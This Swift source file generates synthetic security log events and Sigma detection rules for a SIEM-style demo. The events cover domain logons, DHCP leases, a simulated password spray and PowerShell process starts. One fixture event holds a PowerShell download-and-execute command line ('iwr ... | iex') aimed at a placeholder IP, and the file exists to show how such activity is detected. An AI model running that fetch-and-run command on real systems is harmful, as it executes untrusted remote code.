import Foundation

/// Generates the demo's events: a small company's day, written by
/// Perimeter itself (no third-party data). Deterministic: the same events
/// every run.
enum DemoEvents {
    static let start = 1_714_550_400 // 2024-05-01T08:00:00Z

    static func lines() -> [String] {
        var lines: [String] = []
        func time(_ offset: Int) -> String {
            let date = Date(timeIntervalSince1970: TimeInterval(start + offset))
            let formatter = ISO8601DateFormatter()
            formatter.timeZone = TimeZone(identifier: "UTC")
            return formatter.string(from: date)
        }
        func add(_ object: [String: Any]) {
            let data = try! JSONSerialization.data(withJSONObject: object, options: [.sortedKeys])
            lines.append(String(decoding: data, as: UTF8.self))
        }
        let workstations = (1...6).map { "WS-\(String(format: "%02d", $0))" }
        let users = ["alice", "bob", "carol", "dave", "erin", "frank"]

        // Windows logons on the domain controller, with ECS nested objects.
        for (index, (host, user)) in zip(workstations, users).enumerated() {
            add([
                "@timestamp": time(index * 60),
                "event": ["code": "4624", "provider": "Microsoft-Windows-Security-Auditing",
                          "category": ["authentication"], "outcome": "success", "module": "windows"],
                "host": ["name": "dc-01.corp.example.org", "ip": ["10.0.0.10"],
                         "os": ["name": "Windows Server 2022", "family": "windows",
                                "version": "10.0", "platform": "windows"],
                         "type": "server", "id": "6d1f8b7a-52c4-4d0e-9d3b-8f2a1c0e5b11"],
                "user": ["name": user, "domain": "CORP",
                         "id": "S-1-5-21-3623811015-3361044348-30300820-\(1100 + index)"],
                "source": ["ip": "10.0.1.\(20 + index)"],
                "related": ["hosts": [host.lowercased()]],
                "winlog": ["channel": "Security", "event_data": ["WorkstationName": host,
                                                                  "LogonType": "3"]],
            ])
        }
        // The workstations' own Sysmon events, with dotted keys and an EDR agent.
        for (index, host) in workstations.enumerated() {
            add([
                "@timestamp": time(600 + index * 30),
                "host.name": host, "host.ip": ["10.0.1.\(20 + index)", "fe80::1%eth0"],
                "host.mac": String(format: "00-50-56-A1-00-%02X", index + 1),
                "host.os.name": "Windows 11", "host.os.family": "windows",
                "agent.id": "s1-agent-\(index + 1)", "event.module": "sentinel_one",
                "user.name": "CORP\\\(users[index])",
                // WS-06 downloads and runs a script; the others run the
                // inventory script, whose matches the demo's alert filter
                // suppresses.
                "process": ["name": "powershell.exe",
                            "command_line": index == 5
                                ? "powershell.exe -NoProfile -Command "
                                    + "\"iwr http://203.0.113.80/a.ps1 | iex\""
                                : "powershell.exe -NoProfile -Command Get-Date"],
                "event.category": ["process"], "event.type": ["start"],
            ])
        }
        // DHCP: 10.0.1.50 leased to WS-05, released, then leased to a laptop.
        let leases: [(Int, String, String, String)] = [
            (1_200, "dhcp-new", "laptop-12", "00-50-56-B2-00-12"),
            (1_800, "dhcp-release", "laptop-12", "00-50-56-B2-00-12"),
            (2_400, "dhcp-new", "laptop-40", "00-50-56-B2-00-40"),
        ]
        for (offset, action, host, mac) in leases {
            add([
                "@timestamp": time(offset),
                "event": ["action": action, "dataset": "microsoft_dhcp.log", "code": "10",
                          "category": ["network"]],
                "host": ["name": host, "ip": "10.0.1.50", "mac": mac],
                "data_stream": ["dataset": "microsoft_dhcp.log"],
            ])
        }
        // Web traffic from the leased address before and after the move.
        for offset in [1_500, 2_700] {
            add([
                "@timestamp": time(offset),
                "source": ["ip": "10.0.1.50", "port": 51_000],
                "destination": ["ip": "203.0.113.80", "port": 443, "domain": "intranet.example.org"],
                "event": ["category": ["network"], "dataset": "proxy.access"],
                "url": ["domain": "intranet.example.org"],
            ])
        }
        // A password spray: failures create no accounts.
        for index in 0..<20 {
            add([
                "@timestamp": time(3_000 + index),
                "event": ["code": "4625", "category": ["authentication"], "outcome": "failure"],
                "host": ["name": "dc-01.corp.example.org"],
                "user": ["name": "guess\(index)", "domain": "CORP"],
                "source": ["ip": "198.51.100.7"],
            ])
        }
        // A Linux server over syslog, with IPv6 and an fqdn.
        add([
            "@timestamp": time(3_600),
            "host": ["hostname": "web-01", "name": "web-01", "ip": ["2001:DB8:0:0:1:0:0:1"],
                     "os": ["name": "Debian GNU/Linux", "version": "12", "kernel": "6.1.0"]],
            "process": ["name": "sshd"], "user": ["name": "deploy"],
            "event": ["category": ["authentication"], "outcome": "success", "action": "ssh_login"],
            "source": ["ip": "10.0.1.21"],
        ])
        // Built-in principals and placeholders: never atoms.
        add([
            "@timestamp": time(3_700), "host": ["name": "WS-01"],
            "user": ["name": "SYSTEM", "id": "S-1-5-18", "domain": "NT AUTHORITY"],
            "source": ["ip": "-"],
        ])
        // One malformed line, to show how it is reported.
        lines.append(#"{"@timestamp": "2024-05-01T09:10:00Z", "host": {"name": "broken""#)
        return lines
    }
}

/// The demo's Sigma rules and alert filter, written for its events (ECS
/// field names): the same medium rule level gives an alert on the rated
/// domain controller a higher urgency than one on an unrated workstation.
enum DemoRules {
    static let files: [(name: String, text: String)] = [
        ("rules/failed-logon.yml", """
            title: Failed logon
            id: demo-failed-logon
            status: experimental
            description: A logon failed; many from one source is a password spray.
            taxonomy: ecs
            level: medium
            logsource:
                category: authentication
            detection:
                selection:
                    event.code: 4625
                    event.outcome: failure
                condition: selection
            """),
        ("rules/powershell-command.yml", """
            title: PowerShell runs an inline command
            id: demo-powershell-command
            status: experimental
            taxonomy: ecs
            level: medium
            logsource:
                category: process_creation
            detection:
                selection:
                    process.name: powershell.exe
                    process.command_line|contains: ' -Command '
                condition: selection
            """),
        ("filters/inventory-script.yml", """
            title: The inventory script is expected
            id: demo-filter-inventory-script
            description: IT's inventory job runs Get-Date on every workstation.
            filter:
                rules: [demo-powershell-command]
                selection:
                    process.command_line|endswith: ' -Command Get-Date'
                condition: selection
            """),
    ]
}
